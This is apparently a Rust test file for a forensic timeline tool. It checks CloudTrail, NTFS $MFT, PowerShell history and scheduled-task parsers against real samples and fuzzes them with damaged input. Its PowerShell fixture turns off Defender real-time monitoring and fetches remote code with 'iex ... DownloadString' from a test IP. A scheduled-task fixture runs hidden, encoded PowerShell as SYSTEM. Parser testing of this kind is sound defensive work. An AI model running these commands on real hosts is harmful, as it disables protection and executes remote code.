//! The CloudTrail, `$MFT`, PowerShell history and scheduled task parsers over real data:
//! the CloudTrail samples of the shared corpus (read in place: most are AGPL-3.0 or
//! unlicensed, so none is copied here), NTFS volumes made by `mkntfs`/`ntfscp` and the
//! dfVFS `windows_volume.qcow2`, whose `$MFT` is checked against `ntfsinfo` (ntfs-3g)
//! and against the project's own NTFS reader (`riposte-disk`).

use chrono::{DateTime, NaiveDateTime, Utc};
use riposte_artifacts::{ArtifactContext, ArtifactError, open_artifact, parser_for};
use riposte_model::{Action, EntityKind, Event};
use std::collections::HashMap;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

fn corpus() -> PathBuf {
    let dir = std::env::var_os("RIPOSTE_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus")
        });
    assert!(
        dir.join("alerts/cloudtrail").is_dir(),
        "test corpus not found at {}: set RIPOSTE_CORPUS to the shared corpus directory",
        dir.display()
    );
    dir
}

/// Parses `bytes` with the parser that claims `original_path`, which must be `parser`.
fn parse_as(parser: &str, original_path: &str, bytes: &[u8]) -> Vec<Result<Event, ArtifactError>> {
    let p = parser_for(original_path).unwrap_or_else(|| panic!("no parser claims {original_path}"));
    assert_eq!(p.name(), parser, "{original_path}");
    let ctx = ArtifactContext {
        host: "evidence".into(),
        original_path: original_path.into(),
        modified: None,
    };
    p.parse(&ctx, open_artifact(bytes).unwrap()).collect()
}

fn all_ok(results: Vec<Result<Event, ArtifactError>>) -> Vec<Event> {
    results
        .into_iter()
        .map(|r| r.unwrap_or_else(|e| panic!("unexpected error: {e}")))
        .collect()
}

/// Runs a tool and returns its standard output, panicking with what to install when
/// it is missing.
fn run(program: &str, args: &[&str], package: &str) -> Vec<u8> {
    let output = Command::new(program)
        .args(args)
        .env("TZ", "UTC")
        .output()
        .unwrap_or_else(|e| {
            panic!("cannot run {program} ({e}): install the Debian package {package}")
        });
    assert!(
        output.status.success(),
        "{program} {args:?} failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output.stdout
}

// ---------------------------------------------------------------- CloudTrail

const CLOUDTRAIL_PATH: &str = "/$Riposte/cloudtrail/sample.json";

fn cloudtrail_file(name: &str) -> Vec<Event> {
    let bytes = std::fs::read(corpus().join("alerts/cloudtrail").join(name)).unwrap();
    all_ok(parse_as("cloudtrail", CLOUDTRAIL_PATH, &bytes))
}

/// (file, events, first event: time, event_name, event_source, username, remote_ip, account_id)
type Expected = (
    &'static str,
    usize,
    &'static str,
    &'static str,
    &'static str,
    Option<&'static str>,
    Option<&'static str>,
    Option<&'static str>,
);

#[test]
fn cloudtrail_corpus_samples() {
    let expected: &[Expected] = &[
        (
            "eventbridge-guardduty-createsamplefindings.json",
            1,
            "2021-03-07T00:29:35Z",
            "CreateSampleFindings",
            "guardduty.amazonaws.com",
            Some("phil"),
            Some("162.244.45.96"),
            Some("303697492861"),
        ),
        (
            "panther-kms-decrypt-assumedrole.json",
            1,
            "2018-08-26T14:17:23Z",
            "Decrypt",
            "kms.amazonaws.com",
            Some("panther-log-processor"),
            Some("1.2.3.4"),
            Some("888888888888"),
        ),
        (
            "panther-kms-generatedatakey-awsservice.json",
            1,
            "2018-08-26T14:17:23Z",
            "GenerateDataKey",
            "kms.amazonaws.com",
            None,
            None,
            Some("777777777777"),
        ),
        (
            "panther-records-envelope-insights.json",
            2,
            "2019-10-17T10:05:00Z",
            "UpdateInstanceAssociationStatus",
            "ssm.amazonaws.com",
            None,
            None,
            Some("123456789012"),
        ),
        (
            "sekoia-cloudtrail-lookupevents-root.json",
            1,
            "2020-08-12T12:26:51Z",
            "LookupEvents",
            "cloudtrail.amazonaws.com",
            Some("root"),
            Some("1.2.3.4"),
            Some("1111111111"),
        ),
        (
            "sekoia-ec2-modifyinstanceattribute-root-internal.json",
            1,
            "2022-08-31T09:48:47Z",
            "ModifyInstanceAttribute",
            "ec2.amazonaws.com",
            Some("root"),
            None,
            Some("1111111111"),
        ),
        (
            "sekoia-ec2-modifyinstanceattribute-root.json",
            1,
            "2022-09-01T13:09:23Z",
            "ModifyInstanceAttribute",
            "ec2.amazonaws.com",
            Some("root"),
            None,
            Some("111111111111"),
        ),
        (
            "sekoia-ecs-putclustercapacityproviders-iamuser.json",
            1,
            "2023-09-29T15:06:45Z",
            "PutClusterCapacityProviders",
            "ecs.amazonaws.com",
            Some("AAAAAAAAAAAA"),
            None,
            Some("00000"),
        ),
        (
            "sekoia-insight-event.json",
            1,
            "2022-09-05T07:45:00Z",
            "GetBucketPolicy",
            "s3.amazonaws.com",
            None,
            None,
            Some("1111111111"),
        ),
        (
            "sekoia-kms-decrypt-assumedrole.json",
            1,
            "2020-08-12T12:48:09Z",
            "Decrypt",
            "kms.amazonaws.com",
            Some("ctstreamer-dev-s3"),
            Some("1.2.3.4"),
            Some("1111111111"),
        ),
        (
            "sekoia-rds-modifydbinstance.json",
            1,
            "2022-09-01T14:13:11Z",
            "ModifyDBInstance",
            "rds.amazonaws.com",
            Some("root"),
            None,
            Some("111111111111"),
        ),
        (
            "sekoia-signin-consolelogin-assumedrole.json",
            1,
            "2022-09-08T15:01:59Z",
            "ConsoleLogin",
            "signin.amazonaws.com",
            Some("user@example.org"),
            Some("1.2.3.4"),
            Some("111111111"),
        ),
        (
            "sekoia-signin-consolelogin-root.json",
            1,
            "2020-08-19T15:33:43Z",
            "ConsoleLogin",
            "signin.amazonaws.com",
            Some("root"),
            Some("1.2.3.4"),
            Some("1111111111"),
        ),
        (
            "sekoia-sts-assumerole-awsservice.json",
            1,
            "2020-08-12T12:03:12Z",
            "AssumeRole",
            "sts.amazonaws.com",
            None,
            None,
            Some("1111111111"),
        ),
        (
            "sekoia-sts-assumerole-lambda-service.json",
            1,
            "2020-08-12T12:03:12Z",
            "AssumeRole",
            "sts.amazonaws.com",
            None,
            None,
            Some("1111111111"),
        ),
    ];
    let mut listed: Vec<String> = std::fs::read_dir(corpus().join("alerts/cloudtrail"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    listed.sort();
    let names: Vec<&str> = expected.iter().map(|e| e.0).collect();
    assert_eq!(listed, names, "every corpus sample is checked");
    for &(file, count, time, name, source, user, ip, account) in expected {
        let events = cloudtrail_file(file);
        assert_eq!(events.len(), count, "{file}");
        let e = &events[0];
        assert_eq!(e.entity, EntityKind::Cloud, "{file}");
        assert_eq!(e.action, Action::CloudApiCall, "{file}");
        let want: DateTime<Utc> = time.parse().unwrap();
        assert_eq!(e.time, Some(want), "{file}");
        assert_eq!(e.attr("event_name"), Some(name), "{file}");
        assert_eq!(e.attr("event_source"), Some(source), "{file}");
        assert_eq!(e.attr("username"), user, "{file}");
        assert_eq!(e.attr("remote_ip"), ip, "{file}");
        assert_eq!(e.attr("account_id"), account, "{file}");
        assert!(!e.raw.is_empty(), "{file}");
        assert_eq!(e.origin.record, Some(1), "{file}");
    }

    // Chosen fields, file by file.
    let e = &cloudtrail_file("eventbridge-guardduty-createsamplefindings.json")[0];
    assert_eq!(e.attr("aws_region"), Some("ca-central-1"));
    assert_eq!(e.attr("access_key_id"), Some("AKIAUNNOH7N6ZJM7336Y"));
    assert_eq!(e.attr("user_type"), Some("IAMUser"));
    assert!(e.raw.starts_with("{\"version\":\"0\""));
    let e = &cloudtrail_file("panther-kms-decrypt-assumedrole.json")[0];
    assert_eq!(e.attr("user_type"), Some("AssumedRole"));
    assert_eq!(
        e.attr("role_name"),
        Some("panther-app-LogProcessor-XXXXXXXXXXXX-FunctionRole-XXXXXXXXXX")
    );
    assert_eq!(
        e.attr("resources"),
        Some("arn:aws:kms:us-east-1:888888888888:key/90be6df2-db60-4237-ad9b-a49260XXXXX")
    );
    assert_eq!(e.attr("aws_region"), Some("us-east-1"));
    assert_eq!(e.attr("read_only"), Some("true"));
    assert_eq!(e.attr("mfa_authenticated"), Some("false"));
    assert!(
        e.attr("user_agent")
            .unwrap()
            .starts_with("aws-internal/3 aws-sdk-java")
    );
    let params: serde_json::Value =
        serde_json::from_str(e.attr("request_parameters").unwrap()).unwrap();
    assert_eq!(params["encryptionAlgorithm"], "SYMMETRIC_DEFAULT");

    let e = &cloudtrail_file("panther-kms-generatedatakey-awsservice.json")[0];
    assert_eq!(e.attr("invoked_by"), Some("cloudtrail.amazonaws.com"));
    assert_eq!(
        e.attr("source_ip_address"),
        Some("cloudtrail.amazonaws.com")
    );
    assert_eq!(e.attr("aws_region"), Some("us-west-2"));

    let insights = cloudtrail_file("panther-records-envelope-insights.json");
    let states: Vec<_> = insights
        .iter()
        .map(|e| {
            (
                e.attr("insight_state"),
                e.attr("insight_type"),
                e.origin.record,
            )
        })
        .collect();
    assert_eq!(
        states,
        vec![
            (Some("Start"), Some("ApiCallRateInsight"), Some(1)),
            (Some("End"), Some("ApiCallRateInsight"), Some(2)),
        ]
    );
    assert_eq!(
        insights[1].time,
        Some("2019-10-17T10:13:00Z".parse().unwrap())
    );
    assert!(
        insights[1]
            .raw
            .contains("ce7b8ac1-3f89-4dae-8d2a-6560e32f591a")
    );

    let e = &cloudtrail_file("sekoia-insight-event.json")[0];
    assert_eq!(e.attr("error_code"), Some("NoSuchBucketPolicy"));
    assert_eq!(e.attr("insight_type"), Some("ApiErrorRateInsight"));

    let e = &cloudtrail_file("sekoia-ecs-putclustercapacityproviders-iamuser.json")[0];
    assert_eq!(e.attr("user_arn"), Some("arn:aws:iam::0:user/demo"));
    assert_eq!(e.attr("source_ip_address"), Some("00.000.000.00"));
    // Compared as JSON: key order depends on serde_json's features in the build.
    let parameters: serde_json::Value =
        serde_json::from_str(e.attr("request_parameters").unwrap()).unwrap();
    let expected: serde_json::Value = serde_json::from_str(
        r#"{"capacityProviders":["DEMO"],"cluster":"cluster_name","defaultCapacityProviderStrategy":[{"base":0,"capacityProvider":"DEMO","weight":0}]}"#,
    )
    .unwrap();
    assert_eq!(parameters, expected);

    let e = &cloudtrail_file("sekoia-signin-consolelogin-assumedrole.json")[0];
    assert_eq!(e.attr("console_login"), Some("Success"));
    assert_eq!(e.attr("event_type"), Some("AwsConsoleSignIn"));
    assert!(e.attr("request_parameters").is_none());

    let e = &cloudtrail_file("sekoia-kms-decrypt-assumedrole.json")[0];
    assert_eq!(e.attr("role_name"), Some("user"));
    assert_eq!(
        e.attr("resources"),
        Some("arn:aws:kms:eu-west-3:1111111111:key/14eb3a8a-ffec-4b0e-a6da-e901d5e6ee9c")
    );
    assert_eq!(
        e.attr("principal_id"),
        Some("AROA11111111111111:ctstreamer-dev-s3")
    );

    let e = &cloudtrail_file("sekoia-ec2-modifyinstanceattribute-root-internal.json")[0];
    assert_eq!(e.attr("source_ip_address"), Some("aws.internal"));
    assert_eq!(e.attr("user_arn"), Some("arn:aws:iam::1111111111:root"));
}

/// Every corpus record as a value (the EventBridge wrapper unwrapped, the insights
/// envelope opened): 16 records.
fn corpus_records() -> Vec<serde_json::Value> {
    let mut records = Vec::new();
    let dir = corpus().join("alerts/cloudtrail");
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    for file in files {
        let value: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
        if let Some(list) = value.get("Records").and_then(|r| r.as_array()) {
            records.extend(list.iter().cloned());
        } else if let Some(detail) = value.get("detail") {
            records.push(detail.clone());
        } else {
            records.push(value);
        }
    }
    assert_eq!(records.len(), 16);
    records
}

#[test]
fn cloudtrail_delivery_files_lookup_events_and_json_lines() {
    let records = corpus_records();
    let names: Vec<String> = records
        .iter()
        .map(|r| {
            r.get("eventName")
                .or_else(|| r["insightDetails"].get("eventName"))
                .and_then(|n| n.as_str())
                .unwrap()
                .to_string()
        })
        .collect();
    let names_of = |events: &[Event]| -> Vec<String> {
        events
            .iter()
            .map(|e| e.attr("event_name").unwrap().to_string())
            .collect()
    };

    // The S3 delivery file: gzip, pretty-printed `{"Records":[…]}`.
    let envelope =
        serde_json::to_string_pretty(&serde_json::json!({ "Records": records })).unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(envelope.as_bytes()).unwrap();
    let gz = gz.finish().unwrap();
    let path = "/AWSLogs/123456789012/CloudTrail/eu-west-3/2022/09/01/123456789012_CloudTrail_eu-west-3_20220901T1410Z_abcdef.json.gz";
    let events = all_ok(parse_as("cloudtrail", path, &gz));
    assert_eq!(names_of(&events), names);
    let numbers: Vec<u64> = events.iter().map(|e| e.origin.record.unwrap()).collect();
    assert_eq!(numbers, (1..=16).collect::<Vec<u64>>());

    // `aws cloudtrail lookup-events` output.
    let lookup: Vec<serde_json::Value> = records
        .iter()
        .map(|r| {
            serde_json::json!({
                "EventId": r["eventID"], "EventName": r["eventName"], "ReadOnly": "true",
                "CloudTrailEvent": r.to_string(),
            })
        })
        .collect();
    let text =
        serde_json::to_string_pretty(&serde_json::json!({"Events": lookup, "NextToken": "x"}))
            .unwrap();
    let events = all_ok(parse_as(
        "cloudtrail",
        "/$Riposte/cloudtrail/lookup-events.json",
        text.as_bytes(),
    ));
    assert_eq!(names_of(&events), names);
    assert_eq!(events[0].raw, records[0].to_string());

    // JSON lines, with a broken line in the middle.
    let mut lines: Vec<String> = records.iter().map(|r| r.to_string()).collect();
    lines.insert(3, "{\"eventName\": broken".into());
    let text = lines.join("\n");
    let results = parse_as(
        "cloudtrail",
        "/cases/x/CloudTrail/export.jsonl",
        text.as_bytes(),
    );
    assert_eq!(results.len(), 17);
    assert!(results[3].is_err());
    assert_eq!(results.iter().filter(|r| r.is_ok()).count(), 16);
}

// ---------------------------------------------------------------- $MFT

/// The times `ntfsinfo -F` prints for a file: `$STANDARD_INFORMATION` then `$FILE_NAME`,
/// each as (created, altered, MFT changed, accessed), in whole seconds.
fn ntfsinfo_times(image: &Path, path: &str) -> (u64, Vec<i64>, Vec<i64>) {
    let out = run(
        "ntfsinfo",
        &["-F", path, image.to_str().unwrap()],
        "ntfs-3g",
    );
    let text = String::from_utf8_lossy(&out);
    let mut times = Vec::new();
    let mut inode = None;
    for line in text.lines() {
        let line = line.trim();
        if let Some(rest) = line.strip_prefix("Dumping Inode ") {
            inode = rest.split_whitespace().next().and_then(|n| n.parse().ok());
        }
        if let Some((key, value)) = line.split_once(":\t")
            && key.ends_with(" Time")
        {
            let value = value.trim().trim_end_matches(" UTC");
            let value = value.split_whitespace().collect::<Vec<_>>().join(" ");
            let t = NaiveDateTime::parse_from_str(&value, "%a %b %d %H:%M:%S %Y")
                .unwrap_or_else(|e| panic!("{value}: {e}"));
            times.push(t.and_utc().timestamp());
        }
    }
    assert!(times.len() >= 8, "{text}");
    (inode.unwrap(), times[..4].to_vec(), times[4..8].to_vec())
}

/// Checks a file's events against `ntfsinfo`: every MACB letter once, at the right second.
fn check_against_ntfsinfo(events: &[&Event], image: &Path, path: &str) {
    let (inode, si, fname) = ntfsinfo_times(image, path);
    assert!(!events.is_empty(), "{path}: no events");
    for e in events {
        assert_eq!(
            e.attr("mft_record"),
            Some(inode.to_string().as_str()),
            "{path}"
        );
    }
    // ntfsinfo order: created, altered, MFT changed, accessed; MACB: m a c b.
    let order = [1usize, 3, 2, 0];
    for (key, want) in [("macb", &si), ("fn_macb", &fname)] {
        for (slot, letter) in order.iter().zip(['m', 'a', 'c', 'b']) {
            let with: Vec<&&Event> = events
                .iter()
                .filter(|e| e.attr(key).is_some_and(|m| m.contains(letter)))
                .collect();
            assert_eq!(with.len(), 1, "{path}: {key} {letter} once");
            assert_eq!(
                with[0].time.unwrap().timestamp(),
                want[*slot],
                "{path}: {key} {letter}"
            );
        }
    }
}

fn events_by_path(events: &[Event]) -> HashMap<String, Vec<&Event>> {
    let mut by_path: HashMap<String, Vec<&Event>> = HashMap::new();
    for e in events {
        by_path
            .entry(e.attr("file_path").unwrap().to_string())
            .or_default()
            .push(e);
    }
    by_path
}

#[test]
fn mft_of_a_volume_made_by_mkntfs_matches_ntfsinfo() {
    let dir = tempfile::tempdir().unwrap();
    let image = dir.path().join("ntfs.img");
    std::fs::File::create(&image)
        .unwrap()
        .set_len(16 << 20)
        .unwrap();
    run(
        "mkntfs",
        &["-F", "-f", "-q", "-L", "evidence", image.to_str().unwrap()],
        "ntfs-3g",
    );
    let files: &[(&str, usize)] = &[
        ("hello.txt", 6),
        ("payload.bin", 70_000),
        ("stamped.txt", 900),
    ];
    for (name, len) in files {
        let local = dir.path().join(name);
        let content: Vec<u8> = (0..*len).map(|i| (i * 7 % 251) as u8).collect();
        std::fs::write(&local, content).unwrap();
    }
    // stamped.txt keeps an old modification time (ntfscp -t copies it).
    let stamped = dir.path().join("stamped.txt");
    run(
        "touch",
        &["-d", "2020-01-02 03:04:05 UTC", stamped.to_str().unwrap()],
        "coreutils",
    );
    for (name, _) in files {
        let local = dir.path().join(name);
        let mut args = vec![image.to_str().unwrap(), local.to_str().unwrap()];
        let dest = format!("/{name}");
        if *name == "stamped.txt" {
            args.insert(0, "-t");
        }
        args.push(&dest);
        run("ntfscp", &args, "ntfs-3g");
    }
    let mft = run("ntfscat", &[image.to_str().unwrap(), "$MFT"], "ntfs-3g");
    assert_eq!(mft.len() % 1024, 0);

    let events = all_ok(parse_as("mft", "/$MFT", &mft));
    let by_path = events_by_path(&events);
    for (name, len) in files {
        let path = format!("/{name}");
        let file_events = by_path
            .get(&path)
            .unwrap_or_else(|| panic!("{path} missing"));
        for e in file_events {
            assert_eq!(e.attr("size"), Some(len.to_string().as_str()), "{path}");
            assert_eq!(e.attr("file_name"), Some(*name));
            assert_eq!(e.attr("deleted"), None);
            assert!(e.attr("si_fn_mismatch").is_none());
        }
        check_against_ntfsinfo(file_events, &image, &path);
    }
    let stamped = &by_path["/stamped.txt"];
    let m = stamped
        .iter()
        .find(|e| e.attr("macb").unwrap().starts_with('m'))
        .unwrap();
    assert_eq!(m.time, Some("2020-01-02T03:04:05Z".parse().unwrap()));
    assert_eq!(m.action, Action::FileWrite);
    // The metadata files and the root, by their fixed record numbers.
    for (path, record) in [
        ("/$MFT", "0"),
        ("/$MFTMirr", "1"),
        ("/$LogFile", "2"),
        ("/", "5"),
        ("/$Extend", "11"),
    ] {
        let found = by_path
            .get(path)
            .unwrap_or_else(|| panic!("{path} missing"));
        assert_eq!(found[0].attr("mft_record"), Some(record), "{path}");
    }
    assert_eq!(
        by_path["/$MFT"][0].attr("size"),
        Some(mft.len().to_string().as_str())
    );
    assert_eq!(by_path["/$Extend"][0].attr("directory"), Some("true"));
}

#[test]
fn mft_of_the_dfvfs_windows_volume_matches_ntfsinfo_and_riposte_disk() {
    let dir = tempfile::tempdir().unwrap();
    let raw = dir.path().join("windows_volume.raw");
    let qcow2 = corpus().join("images/dfvfs/windows_volume.qcow2");
    run(
        "qemu-img",
        &[
            "convert",
            "-O",
            "raw",
            qcow2.to_str().unwrap(),
            raw.to_str().unwrap(),
        ],
        "qemu-utils",
    );
    // Read $MFT with the project's own NTFS reader.
    let image = riposte_disk::open_image(&raw).unwrap();
    let volumes = riposte_disk::volumes(&image.source).unwrap();
    let volume = volumes
        .iter()
        .find(|v| v.filesystem == Some(riposte_disk::FsKind::Ntfs))
        .expect("an NTFS volume");
    let fs = riposte_disk::open_filesystem(volume.source.clone()).unwrap();
    let entry = riposte_disk::lookup(fs.as_ref(), "/$MFT").unwrap();
    let mut mft = Vec::new();
    fs.open(&entry).unwrap().read_to_end(&mut mft).unwrap();
    let events = all_ok(parse_as("mft", "C:\\$MFT", &mft));
    // ntfscat hands out the records with their fixups already undone: same events.
    let by_ntfscat = run("ntfscat", &[raw.to_str().unwrap(), "$MFT"], "ntfs-3g");
    assert_eq!(by_ntfscat.len(), mft.len());
    assert!(mft != by_ntfscat);
    assert!(all_ok(parse_as("mft", "C:\\$MFT", &by_ntfscat)) == events);
    let by_path = events_by_path(&events);
    let syslog = &by_path["/Windows/System32/config/syslog"];
    // Born and accessed at one instant, written and changed 0.3 ms later: the same second
    // for ntfsinfo (and TSK's bodyfile), two events at the MFT's 100 ns precision.
    let summary: Vec<_> = syslog
        .iter()
        .map(|e| {
            (
                e.time.unwrap().to_rfc3339(),
                e.attr("macb"),
                e.attr("fn_macb"),
                e.action,
            )
        })
        .collect();
    assert_eq!(
        summary,
        vec![
            (
                "2016-08-06T12:32:12.662754800+00:00".to_string(),
                Some(".a.b"),
                Some("macb"),
                Action::FileCreate
            ),
            (
                "2016-08-06T12:32:12.663060300+00:00".to_string(),
                Some("m.c."),
                None,
                Action::FileWrite
            ),
        ]
    );
    for e in syslog {
        assert_eq!(e.attr("mft_record"), Some("67"));
        assert_eq!(e.attr("size"), Some("1247"));
        assert_eq!(e.attr("parent_record"), Some("66"));
        assert_eq!(e.attr("deleted"), None);
    }
    check_against_ntfsinfo(syslog, &raw, "/Windows/System32/config/syslog");
    check_against_ntfsinfo(&by_path["/Windows/System32"], &raw, "/Windows/System32");

    // Every file and directory riposte-disk walks is in the MFT timeline under the
    // same path, record number and (for files) size.
    let mut checked = 0;
    let problems = riposte_disk::walk(fs.as_ref(), riposte_disk::WalkLimits::default(), |entry| {
        let found = by_path
            .get(&entry.path)
            .unwrap_or_else(|| panic!("{} not in the MFT timeline", entry.path));
        assert_eq!(
            found[0].attr("mft_record"),
            Some(entry.id.to_string().as_str()),
            "{}",
            entry.path
        );
        if entry.kind == riposte_disk::FileKind::File {
            assert_eq!(
                found[0].attr("size"),
                Some(entry.size.to_string().as_str()),
                "{}",
                entry.path
            );
        }
        checked += 1;
        riposte_disk::WalkControl::Continue
    })
    .unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(checked, 18);
}

// ---------------------------------------------------------------- PowerShell, tasks

#[test]
fn powershell_history_routes_and_parses() {
    let path = "/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt";
    let text = "Get-Process\nSet-MpPreference -DisableRealtimeMonitoring $true\niex (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a') `\n  -Verbose\n";
    let events = all_ok(parse_as("powershell_history", path, text.as_bytes()));
    assert_eq!(events.len(), 3);
    assert!(
        events
            .iter()
            .all(|e| e.time.is_none() && e.attr("username") == Some("alice"))
    );
    assert_eq!(events[1].attr("file_name"), Some("Set-MpPreference"));
    assert_eq!(events[2].origin.record, Some(3));
    assert!(events[2].attr("cmd").unwrap().ends_with("`\n  -Verbose"));
}

#[test]
fn scheduled_task_routes_and_parses_utf16() {
    let xml = r#"<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2023-05-04T10:11:12.5</Date><Author>CORP\mallory</Author><URI>\Updater</URI></RegistrationInfo>
  <Triggers><LogonTrigger><Enabled>true</Enabled><UserId>CORP\alice</UserId></LogonTrigger>
    <CalendarTrigger><StartBoundary>2023-05-05T09:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -enc SQBFAFgA</Arguments></Exec></Actions>
</Task>"#;
    let mut bytes = vec![0xFF, 0xFE];
    for unit in xml.encode_utf16() {
        bytes.extend(unit.to_le_bytes());
    }
    let events = all_ok(parse_as(
        "scheduled_task",
        "/Windows/System32/Tasks/Updater",
        &bytes,
    ));
    assert_eq!(events.len(), 1);
    let e = &events[0];
    assert_eq!(
        e.attr("cmd"),
        Some("powershell.exe -nop -w hidden -enc SQBFAFgA")
    );
    assert_eq!(e.attr("task_name"), Some("\\Updater"));
    assert_eq!(e.attr("author"), Some("CORP\\mallory"));
    assert_eq!(e.attr("run_as"), Some("S-1-5-18"));
    assert_eq!(
        e.attr("triggers"),
        Some(
            "Logon enabled=true user=CORP\\alice; Calendar start=2023-05-05T09:00:00 every_days=1"
        )
    );
    assert_eq!(e.time, Some("2023-05-04T10:11:12.500Z".parse().unwrap()));
    assert_eq!(e.attr("time_local_as_utc"), Some("true"));
    let garbage = parse_as(
        "scheduled_task",
        "/Windows/System32/Tasks/Junk",
        b"\x00\xffMZ\x90garbage",
    );
    assert_eq!(garbage.len(), 1);
    assert!(garbage[0].is_err());
}

// ---------------------------------------------------------------- hostile input

/// Deterministic xorshift64*, so a failure reproduces.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

const HOSTILE_PATHS: &[(&str, &str)] = &[
    (
        "cloudtrail",
        "/AWSLogs/1/CloudTrail/us-east-1/2024/01/01/1_CloudTrail_us-east-1_x.json.gz",
    ),
    ("mft", "/$MFT"),
    (
        "powershell_history",
        "/Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt",
    ),
    ("scheduled_task", "/Windows/System32/Tasks/T"),
];

/// Runs each of the four parsers over `bytes`; none may panic or yield without end.
fn run_all(bytes: &[u8]) {
    for (name, path) in HOSTILE_PATHS {
        let results = parse_as(name, path, bytes);
        assert!(
            results.len() <= bytes.len() * 4 + 4,
            "{name}: {}",
            results.len()
        );
    }
}

#[test]
fn truncations_and_byte_flips_of_real_artifacts_do_not_panic() {
    let mut samples: Vec<Vec<u8>> = Vec::new();
    samples.push(
        std::fs::read(corpus().join("alerts/cloudtrail/panther-records-envelope-insights.json"))
            .unwrap(),
    );
    samples.push(
        std::fs::read(corpus().join("alerts/cloudtrail/sekoia-kms-decrypt-assumedrole.json"))
            .unwrap(),
    );
    let task = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><RegistrationInfo><Date>2005-10-11T13:21:17</Date></RegistrationInfo><Triggers><BootTrigger/></Triggers><Actions><Exec><Command>a&amp;b</Command><Arguments>x</Arguments></Exec></Actions></Task>";
    let mut utf16 = vec![0xFF, 0xFE];
    for unit in task.encode_utf16() {
        utf16.extend(unit.to_le_bytes());
    }
    samples.push(utf16);
    samples.push(b"Get-Process `\n| Stop-Process\n`\n".to_vec());
    let mut rng = Rng(0x5eed_0fc1_0d7a_5c00);
    for sample in &samples {
        for end in 0..=sample.len() {
            run_all(&sample[..end]);
        }
        for _ in 0..300 {
            let mut bytes = sample.clone();
            for _ in 0..1 + rng.below(8) {
                let at = rng.below(bytes.len());
                bytes[at] = rng.next() as u8;
            }
            run_all(&bytes);
        }
    }
    // The dfVFS volume's first 16 MFT records (ntfscat's copy, fixups undone), cut and
    // flipped: records fail one by one, none panics.
    let dir = tempfile::tempdir().unwrap();
    let raw = dir.path().join("v.raw");
    let qcow2 = corpus().join("images/dfvfs/windows_volume.qcow2");
    run(
        "qemu-img",
        &[
            "convert",
            "-O",
            "raw",
            qcow2.to_str().unwrap(),
            raw.to_str().unwrap(),
        ],
        "qemu-utils",
    );
    let mft = run("ntfscat", &[raw.to_str().unwrap(), "$MFT"], "ntfs-3g");
    let mft = &mft[..16 * 1024];
    for end in (0..=mft.len()).step_by(97) {
        run_all(&mft[..end]);
    }
    for _ in 0..300 {
        let mut bytes = mft.to_vec();
        for _ in 0..1 + rng.below(32) {
            let at = rng.below(bytes.len());
            bytes[at] = rng.next() as u8;
        }
        let _ = parse_as("mft", "/$MFT", &bytes);
    }
    for _ in 0..500 {
        let len = rng.below(3000);
        let bytes: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
        run_all(&bytes);
    }
}
